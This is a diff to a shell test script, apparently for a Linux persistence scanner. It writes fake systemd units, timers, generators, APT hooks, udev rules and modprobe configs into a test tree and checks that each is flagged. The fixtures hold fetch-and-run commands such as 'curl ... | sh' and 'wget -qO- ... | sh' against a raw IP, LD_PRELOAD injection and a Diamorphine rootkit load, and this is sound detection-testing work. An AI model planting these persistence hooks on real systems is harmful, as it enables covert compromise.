@@ -461,6 +461,10 @@ printf '[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=upd.service\n' \
     >"$b/etc/systemd/system/upd.timer"
 printf '[Service]\nType=oneshot\nExecStart=/bin/sh -c "curl -s http://203.0.113.9/u | sh"\nEnvironment=LD_PRELOAD=/var/tmp/.l/libx.so\n' \
     >"$b/etc/systemd/system/upd.service"
+mkdir -p "$b/var/tmp/.u"
+printf '[Service]\nExecStart=/usr/bin/env /var/tmp/.u/run\n' \
+    >"$b/var/tmp/.u/evil.service"
+ln -s ../../../var/tmp/.u/evil.service "$b/etc/systemd/system/evil.service"
 mkdir -p "$b/etc/systemd/system-generators"
 printf '#!/bin/sh\n/usr/lib/.sys/gen "$1"\n' \
     >"$b/etc/systemd/system-generators/net-gen"
@@ -488,6 +492,8 @@ printf 'DPkg::Post-Invoke {"wget -qO- http://203.0.113.9/a | sh || true";};\n' \
     >"$b/etc/apt/apt.conf.d/99hook"
 printf 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \x27/tmp/.u/usb &\x27"\n' \
     >"$b/etc/udev/rules.d/99-usb.rules"
+printf 'ENV{X}="RUN", RUN{program}+="/usr/bin/curl -s http://203.0.113.9/u -o /tmp/u"\n' \
+    >>"$b/etc/udev/rules.d/99-usb.rules"
 printf 'install pcspkr /tmp/.m/load.sh; /sbin/modprobe --ignore-install pcspkr\n' \
     >"$b/etc/modprobe.d/pcspkr.conf"
 printf 'diamorphine\n' >"$b/etc/modules-load.d/diamorphine.conf"
@@ -523,6 +529,8 @@ check "timer's service downloads and runs" at unit.dropper \
     /etc/systemd/system/upd.service 3
 check "unit Environment=LD_PRELOAD" at unit.ld_preload \
     /etc/systemd/system/upd.service 4
+check "unit linked in from a hidden dir is read" at unit.temp_exec \
+    /etc/systemd/system/evil.service 2
 check "generator in /etc" at unit.generator \
     /etc/systemd/system-generators/net-gen
 check "generator runs from a hidden dir" at unit.temp_exec \
@@ -542,6 +550,8 @@ check "XDG autostart" at rc.temp_exec /etc/xdg/autostart/updater.desktop 4
 check "update-motd.d script" at rc.dropper /etc/update-motd.d/99-stats 2
 check "APT Post-Invoke hook" at rc.dropper /etc/apt/apt.conf.d/99hook 1
 check "udev RUN+=" at rc.temp_exec /etc/udev/rules.d/99-usb.rules 1
+check "udev RUN{program}+=" at rc.fetch_raw_ip \
+    /etc/udev/rules.d/99-usb.rules 2
 check "modprobe install from /tmp" at rc.temp_exec \
     /etc/modprobe.d/pcspkr.conf 1
 check "modules-load.d record" has_record module '.name == "diamorphine" and
